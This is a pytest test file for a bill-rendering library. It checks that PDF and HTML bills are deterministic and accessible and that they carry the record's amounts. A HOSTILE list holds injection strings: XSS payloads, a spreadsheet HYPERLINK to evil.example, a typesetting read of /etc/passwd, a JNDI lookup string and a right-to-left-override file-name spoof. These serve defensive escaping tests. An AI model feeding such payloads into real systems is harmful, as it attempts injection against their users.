"""The bill on paper and on a screen, as a whole."""

import base64
import hashlib
import json
import os
import re
import subprocess
import sys
from dataclasses import asdict
from html import unescape
from html.parser import HTMLParser

import pytest
from delivery_bills import FOLDER, NAMES, bill, paper, screen, sheets, texts
from delivery_pdf import pages

from gridtally.delivery import documents
from gridtally.delivery.html import el
from gridtally.delivery.view import page
from gridtally.rating.shipped import UNVERIFIED, shipped

EVERY = [(name, language) for name in NAMES for language in ("en", "zh")]


def shown(html):
    """What a reader of the page sees, without spaces; `|` where an element begins or ends."""
    body = html[html.index("<body>") :]
    return re.sub(r"\s", "", unescape(re.sub(r"<[^>]*>", "|", body)))


# ------------------------------------------------------------- one record, one document


@pytest.mark.parametrize("name", NAMES)
def test_the_same_record_gives_the_same_bytes(name):
    """A document is a function of its record."""
    assert documents.render_pdf(*bill(name)) == paper(name)
    assert documents.render_html(*bill(name)) == screen(name)


def test_another_process_zone_language_and_hash_seed_give_the_same_bytes():
    """Nothing of the machine comes into the document: no clock, no locale, no order of sets."""
    program = (
        "import hashlib, json, sys\n"
        "from gridtally.delivery import documents\n"
        "case = json.load(open(sys.argv[1], encoding='utf-8'))\n"
        "both = case['record'], case['openings']\n"
        "html = documents.render_html(*both).encode()\n"
        "print(hashlib.sha256(documents.render_pdf(*both) + html).hexdigest())\n"
    )
    odd = {"TZ": "Pacific/Chatham", "LC_ALL": "C", "PYTHONHASHSEED": "77", "HOME": "/nowhere"}
    done = subprocess.run(
        [sys.executable, "-c", program, str(FOLDER / "factory-zh.json")],
        env={**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, sys.path)), **odd},
        capture_output=True,
        text=True,
        check=True,
        cwd="/",
    )
    both = paper("factory-zh") + screen("factory-zh").encode()
    assert done.stdout.strip() == hashlib.sha256(both).hexdigest()


def test_a_document_is_dated_with_the_day_of_issue():
    """The only date in the file's own data is that of the record."""
    data = paper("household-tiers")
    assert set(re.findall(rb"D:(\d{8})", data)) == {b"20261103"}


def test_digests_name_the_template_and_the_fonts():
    """Both are fixed texts that the record can carry."""
    for digest in (documents.template_digest(), documents.font_digest()):
        assert re.fullmatch(r"sha256:[0-9a-f]{64}", digest)
    assert documents.template_digest() != documents.font_digest()


# ------------------------------------------------------------------------- on paper


@pytest.mark.parametrize(("name", "language"), EVERY)
def test_an_ordinary_bill_fits_one_page(name, language):
    """Up to three metering points, or two periods of a factory, in either language."""
    assert len(sheets(name, language)) == 1


def test_a_long_bill_goes_on_and_says_so():
    """Every page has its number, and the last one the proof."""
    record, openings = bill("fourteen-lines")
    record["segments"] *= 4
    text = pages(documents.render_pdf(record, openings))
    assert len(text) > 1
    for number, one in enumerate(text, 1):
        assert f"Page {number} of {len(text)}" in one
    assert documents.short_code(record) in text[-1]


@pytest.mark.parametrize(("name", "language"), EVERY)
def test_paper_shows_every_text_of_the_page(name, language):
    """No amount, reading or sentence is lost between the page and the paper."""
    record, openings = bill(name, language=language)
    drawn = re.sub(r"\s|\u200b", "", "".join(sheets(name, language)))
    view = asdict(page(record, openings)[0])
    for key in ("language", "labels", "issued"):
        view.pop(key)
    view["figure"] = {**(view["figure"] or {}), "alt": ""}  # read aloud, not shown
    code = view["payment"]["code"]
    view["payment"]["code"] = code and code["title"]
    missing = [t for t in texts(view) if re.sub(r"\s", "", t) not in drawn]
    assert not missing


def test_paper_is_tagged_archivable_and_in_its_language():
    """PDF/UA and PDF/A are claimed (typst refuses to write what does not hold them)."""
    for name, language in (("factory-en", b"en-GB"), ("factory-zh", b"zh-CN")):
        data = paper(name)
        assert b"/StructTreeRoot" in data
        assert b"/Marked true" in data
        assert b"/Lang(" + language + b")" in data
        assert b"pdfuaid:part>1<" in data
        assert b"pdfaid:part>3<" in data
        assert b"/Alt<FEFF" in data


# ------------------------------------------------------------------------ on a screen


class Reader(HTMLParser):
    """Checks that elements nest, and collects them."""

    def __init__(self):
        super().__init__()
        self.open, self.seen = [], []

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, dict(attrs)))
        if tag not in ("meta", "br"):
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.seen.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        assert self.open.pop() == tag


def read(html):
    reader = Reader()
    reader.feed(html)
    reader.close()
    assert not reader.open
    return reader.seen


@pytest.mark.parametrize(("name", "language"), EVERY)
def test_the_web_page_is_well_formed_and_self_contained(name, language):
    """Elements nest; no script, no event handler, no address that would be fetched."""
    html = screen(name, language)
    assert html.startswith("<!doctype html>\n<html lang=")
    for tag, attributes in read(html):
        assert tag not in ("script", "link", "iframe", "object", "img", "form", "a", "base")
        for key, value in attributes.items():
            assert key not in ("src", "href", "style", "srcset"), (tag, key)
            assert not key.startswith("on"), (tag, key)
            assert not key.endswith("href") or value.startswith("#")
    assert set(re.findall(r'url\("?([a-z]+:[a-z/]*)', html)) <= {"data:font/ttf"}
    assert "@import" not in html


def test_the_policy_allows_only_our_style_and_fonts():
    """The hash in the policy is that of the one style element: a browser takes no other."""
    html = screen("estimated")
    policy = next(
        attributes["content"]
        for tag, attributes in read(html)
        if attributes.get("http-equiv") == "Content-Security-Policy"
    )
    style = re.search(r"<style>(.*)</style>", html, re.DOTALL)[1]
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert policy.split("; ") == [
        "default-src 'none'",
        f"style-src 'sha256-{digest}'",
        "font-src data:",
        "base-uri 'none'",
        "form-action 'none'",
    ]


@pytest.mark.parametrize("name", NAMES)
def test_tables_have_headers_and_pictures_have_words(name):
    """What a screen reader needs: scope on every header cell, a caption, a label per picture."""
    seen = read(screen(name))
    tables = sum(tag == "table" for tag, _ in seen)
    assert tables == sum(tag == "caption" for tag, _ in seen) > 1
    assert all(attributes.get("scope") for tag, attributes in seen if tag == "th")
    pictures = [attributes for tag, attributes in seen if tag == "svg"]
    assert all(p["role"] == "img" and len(p["aria-label"]) > 10 for p in pictures)
    assert [tag for tag, _ in seen if tag == "h1"] == ["h1"]


# ------------------------------------------------------------------- amounts, both


@pytest.mark.parametrize(("name", "language"), EVERY)
def test_amounts_on_the_page_are_those_of_the_record(name, language):
    """Every line's amount, the totals and the balance, digit by digit, on screen and paper."""
    record, _ = bill(name, language=language)
    drawn = re.sub(r"\n", "|", "".join(sheets(name, language)))
    both = re.sub(r"\s", "", drawn), shown(screen(name, language))
    amounts = [line["amount"] for s in record["segments"] for line in s["lines"]]
    amounts += [segment["total"] for segment in record["segments"]]
    amounts += [record["total"], *record["balance"].values()]
    amounts += [tax["amount"] for tax in record["tax"]]
    for amount in amounts:
        whole, _, cents = amount.lstrip("-").partition(".")
        digits = f"{whole}.{cents:0<2}"
        for text in both:
            assert re.search(rf"(?<![\d.]){re.escape(digits)}(?![\d])", text), amount


@pytest.mark.parametrize("name", NAMES)
def test_readings_and_quantities_are_those_of_the_record(name):
    """Opening, closing, multiplier and result of every dial; quantity and price of every line."""
    record, _ = bill(name)
    html = shown(screen(name))
    for segment in record["segments"]:
        wanted = [r[k] for r in segment["readings"] for k in ("opening", "closing", "advance")]
        wanted += [r["multiplier"] for r in segment["readings"]]
        wanted += [line[k] for line in segment["lines"] for k in ("quantity", "price")]
        missing = [text for text in wanted if text not in html]
        assert not missing


# ------------------------------------------------------------------- hostile texts

HOSTILE = (
    '=HYPERLINK("http://evil.example","x")',
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '#import "@preview/evil:1.0.0": * #read("/etc/passwd") $x$ *b* `c` @ref <label> \\u{41}',
    '"><svg onload=alert(1)><style>*{display:none}</style>',
    "]]> --> {% raw %} ${jndi:ldap://x} %s {0} {date}",
    "\x00\x01\x1b[31mred\x7f",
)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("language", ["en", "zh"])
def test_hostile_text_is_only_text(text, language):
    """It is shown as written, on paper and screen, wherever it stands; it starts nothing."""
    record, openings = bill("factory-en", language=language)
    openings = {"name": text, "address": f"{text}\n{text}"}
    record["supplier"] |= {"name": text, "address": text, "web": text, "payment_terms": text}
    segment = record["segments"][0]
    segment["tariff"] |= {"title": {"en": text}, "assumptions": [text]}
    segment["events"][0]["detail"] = text
    for reading in segment["readings"]:
        reading |= {"meter": text, "register": text, "bucket": text}
    for line in segment["lines"]:
        line |= {"title": {"en": text}, "bucket": text}
    visible = re.sub(r"[\s\x00-\x1f\x7f]", "", text)
    html = documents.render_html(record, openings)
    tags = {tag for tag, _ in read(html)}
    assert not tags & {"script", "img"}
    assert sum(tag == "style" for tag, _ in read(html)) == 1
    assert visible in shown(html)
    drawn = re.sub(r"[\s\u200b]", "", "".join(pages(documents.render_pdf(record, openings))))
    assert visible in drawn


@pytest.mark.parametrize("language", ["en", "zh"])
def test_a_bill_under_an_unverified_tariff_says_so(language):
    """A shipped tariff that nobody's example stands behind is named so on screen and on paper."""
    record, openings = bill("factory-en", language=language)
    record["segments"][0]["tariff"]["assumptions"] = list(
        next(one for one in shipped() if not one.version.verified_by).version.assumptions
    )
    sentence = UNVERIFIED.replace(" ", "")
    assert sentence in shown(documents.render_html(record, openings))
    assert sentence in re.sub(r"\s", "", "".join(pages(documents.render_pdf(record, openings))))


def test_an_attribute_is_escaped_like_any_text():
    """A quotation mark in a label cannot end it."""
    (tag, attributes), *others = read(el("td", "x", data_label='"><b onclick="y">&'))
    assert (tag, attributes, others) == ("td", {"data-label": '"><b onclick="y">&'}, [])


def test_signs_that_turn_text_around_are_left_out():
    """A right-to-left override or a zero-width joiner cannot make one name look like another."""
    record, openings = bill("household-tiers")
    openings["name"] = "Ana \u202egnp.exe\u202c \u2066x\u2069 Fer\u200breira\ufeff"
    html = documents.render_html(record, openings)
    assert "Ana gnp.exe x Ferreira" in html
    assert "Ana gnp.exe x Ferreira" in "".join(pages(documents.render_pdf(record, openings)))
    assert not set("\u202e\u202c\u2066\u2069\u200b\ufeff") & set(html)


def test_a_name_of_ten_kilobytes_stays_in_its_place():
    """It is cut and reported; the bill keeps one page."""
    record, openings = bill("household-tiers")
    openings["name"] = "W" * 10_000
    text = pages(documents.render_pdf(record, openings))
    assert len(text) == 1
    lines = [line for line in text[0].split("\n") if "WW" in line]
    assert len(lines) > 1, "a word that is longer than its column must break"
    assert sum(map(len, lines)) < 200
    found = documents.problems(record, openings).to_pylist()
    assert [f["code"] for f in found] == ["delivery.text.shortened"]


# ------------------------------------------------------------------------- findings


def test_an_ordinary_bill_has_no_problems():
    """Nothing is reported of bills that can be shown as they are."""
    for name in NAMES:
        assert documents.problems(*bill(name)).num_rows == 0


def test_a_letter_without_a_font_is_reported_and_explained():
    """Never a silent box: a sign in its place, a sentence on the page, a finding."""
    record, openings = bill("household-tiers")
    openings["name"] = "محمد 😀 Ana"
    (found,) = documents.problems(record, openings).to_pylist()
    assert found["code"] == "delivery.letter.missing"
    assert found["severity"] == "warn"
    assert found["bill"] == record["bill"]
    assert found["message"] == (
        "Our fonts lack U+062D U+062F U+0645 U+1F600, in openings.name; the bill shows 〓 instead."
    )
    drawn = pages(documents.render_pdf(record, openings))[0].replace("\n", "")
    for text in (documents.render_html(record, openings), drawn):
        assert "〓〓〓〓 〓 Ana" in text
        assert "〓 stands for a letter that our fonts lack." in text


def test_a_text_that_is_too_long_is_reported():
    """The finding names the field and both lengths."""
    record, openings = bill("household-tiers")
    openings["address"] = "Rua " * 200
    (found,) = documents.problems(record, openings).to_pylist()
    assert found["message"] == (
        "openings.address has 800 characters; the bill shows the first 299."
    )
    assert json.loads(found["evidence"]) == {
        "field": "openings.address",
        "length": "800",
        "limit": "300",
    }
